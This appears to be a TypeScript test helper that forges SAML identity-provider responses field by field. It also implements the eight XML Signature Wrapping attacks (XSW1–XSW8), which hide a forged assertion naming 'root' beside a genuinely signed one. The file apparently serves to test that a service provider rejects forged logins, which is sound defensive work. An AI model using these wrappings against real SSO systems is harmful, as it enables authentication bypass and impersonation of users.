import { randomBytes } from 'node:crypto'
import { signXml } from '@node-saml/node-saml/lib/xml.js'

/** Everything an answer can say; what is null is left out. Times are seconds from now. */
export interface Forged {
  key: string
  acs: string
  entityId: string
  requestId?: string | null
  subjectRequestId?: string | null
  sign?: 'assertion' | 'response' | 'both' | 'none'
  signatureAlgorithm?: 'sha1' | 'sha256' | 'sha512'
  digestAlgorithm?: 'sha1' | 'sha256' | 'sha512'
  transforms?: string[]
  assertionId?: string
  nameId?: string | null
  issuer?: string
  audience?: string | null
  destination?: string | null
  recipient?: string | null
  method?: string
  issued?: number
  notBefore?: number | null
  notOnOrAfter?: number | null
  confirmedFrom?: number | null
  confirmedUntil?: number | null
  groups?: string[]
  /** What stands inside of Status. */
  status?: string
}

const attribute = (name: string, value: string | null) => (value === null ? '' : ` ${name}="${value}"`)
const at = (seconds: number | null) =>
  seconds === null ? null : new Date(Date.now() + seconds * 1000).toISOString()

/** A status code with others inside of it, the outermost first. */
export const statusCode = (name: string, ...inner: string[]): string =>
  `<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:${name}">${inner.length === 0 ? '' : statusCode(...(inner as [string]))}</samlp:StatusCode>`

/** An answer of an identity provider, written by hand so that each of its parts can be wrong. */
export function forge(given: Forged): string {
  const {
    key,
    acs,
    entityId,
    requestId = null,
    subjectRequestId = requestId,
    sign = 'assertion',
    assertionId = `_${randomBytes(16).toString('hex')}`,
    nameId = 'ada-id',
    issuer = 'urn:test:idp',
    audience = entityId,
    destination = acs,
    recipient = acs,
    method = 'urn:oasis:names:tc:SAML:2.0:cm:bearer',
    issued = 0,
    notBefore = -5,
    notOnOrAfter = 300,
    confirmedFrom = null,
    confirmedUntil = 300,
    groups = ['staff'],
    status = statusCode('Success'),
  } = given
  const values = groups.map((group) => `<saml:AttributeValue>${group}</saml:AttributeValue>`).join('')
  const name = nameId === null ? '' : `<saml:NameID>${nameId}</saml:NameID>`
  const restriction =
    audience === null
      ? ''
      : `<saml:AudienceRestriction><saml:Audience>${audience}</saml:Audience></saml:AudienceRestriction>`
  const confirmation =
    `<saml:SubjectConfirmation Method="${method}"><saml:SubjectConfirmationData${attribute('Recipient', recipient)}` +
    `${attribute('NotBefore', at(confirmedFrom))}${attribute('NotOnOrAfter', at(confirmedUntil))}${attribute('InResponseTo', subjectRequestId)}/></saml:SubjectConfirmation>`
  const assertion =
    `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" Version="2.0" ID="${assertionId}"${attribute('IssueInstant', at(issued))}>` +
    `<saml:Issuer>${issuer}</saml:Issuer><saml:Subject>${name}${confirmation}</saml:Subject>` +
    `<saml:Conditions${attribute('NotBefore', at(notBefore))}${attribute('NotOnOrAfter', at(notOnOrAfter))}>${restriction}</saml:Conditions>` +
    `<saml:AttributeStatement><saml:Attribute Name="groups">${values}</saml:Attribute></saml:AttributeStatement></saml:Assertion>`
  const response =
    `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" Version="2.0" ID="_${randomBytes(16).toString('hex')}"` +
    `${attribute('IssueInstant', at(0))}${attribute('Destination', destination)}${attribute('InResponseTo', requestId)}>` +
    `<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${issuer}</saml:Issuer>` +
    `<samlp:Status>${status}</samlp:Status>${assertion}</samlp:Response>`
  const signing = {
    privateKey: key,
    signatureAlgorithm: given.signatureAlgorithm ?? 'sha256',
    digestAlgorithm: given.digestAlgorithm ?? 'sha256',
    ...(given.transforms && { xmlSignatureTransforms: given.transforms }),
  } as const
  const signed = (xml: string, what: string) =>
    signXml(
      xml,
      `//*[local-name(.)='${what}']`,
      { reference: `//*[local-name(.)='${what}']/*[local-name(.)='Issuer']`, action: 'after' },
      signing,
    )
  const inner = sign === 'assertion' || sign === 'both' ? signed(response, 'Assertion') : response
  return sign === 'response' || sign === 'both' ? signed(inner, 'Response') : inner
}

const part = (xml: string, name: string) =>
  new RegExp(`<((?:\\w+:)?${name})\\b[\\s\\S]*</\\1>`).exec(xml)?.[0] ?? ''
const firstSignature = (xml: string) => /<Signature\b[\s\S]*?<\/Signature>/.exec(xml)?.[0] ?? ''
const evilOf = (xml: string) => xml.replace('>ada-id<', '>root<')
const otherId = (xml: string) => xml.replace(/ ID="[^"]+"/, ' ID="_evil"')
const unsigned = (xml: string) => xml.replace(firstSignature(xml), '')

/** The ways to hide what was signed beside what is to be read, as SAML Raider numbers them. */
export const wrappings: Record<string, (xml: string) => string> = {
  'XSW1: a changed response around the signed one, inside its signature': (xml) => {
    const signature = firstSignature(xml)
    const evil = otherId(evilOf(xml))
    return evil.replace(
      signature,
      signature.replace('</Signature>', `<Object>${unsigned(xml)}</Object></Signature>`),
    )
  },
  'XSW2: the signed response before its signature in a changed one': (xml) => {
    const signature = firstSignature(xml)
    return otherId(evilOf(xml)).replace(signature, unsigned(xml) + signature)
  },
  'XSW3: a changed assertion before the signed one': (xml) => {
    const assertion = part(xml, 'Assertion')
    return xml.replace(assertion, otherId(evilOf(unsigned(assertion))) + assertion)
  },
  'XSW4: the signed assertion inside a changed one': (xml) => {
    const assertion = part(xml, 'Assertion')
    const evil = otherId(evilOf(unsigned(assertion)))
    return xml.replace(assertion, evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`))
  },
  'XSW5: a changed assertion with the signature, the signed one behind': (xml) => {
    const assertion = part(xml, 'Assertion')
    return xml.replace(assertion, otherId(evilOf(assertion)) + unsigned(assertion))
  },
  'XSW6: the signed assertion inside its signature in a changed one': (xml) => {
    const assertion = part(xml, 'Assertion')
    const signature = firstSignature(assertion)
    const holding = signature.replace('</Signature>', `${unsigned(assertion)}</Signature>`)
    return xml.replace(assertion, otherId(evilOf(assertion)).replace(signature, holding))
  },
  'XSW7: a changed assertion in an extension': (xml) => {
    const assertion = part(xml, 'Assertion')
    const evil = evilOf(unsigned(assertion))
    return xml.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`)
  },
  'XSW8: the signed assertion as an object of the signature of a changed one': (xml) => {
    const assertion = part(xml, 'Assertion')
    const signature = firstSignature(assertion)
    const holding = signature.replace('</Signature>', `<Object>${unsigned(assertion)}</Object></Signature>`)
    return xml.replace(assertion, evilOf(assertion).replace(signature, holding))
  },
}
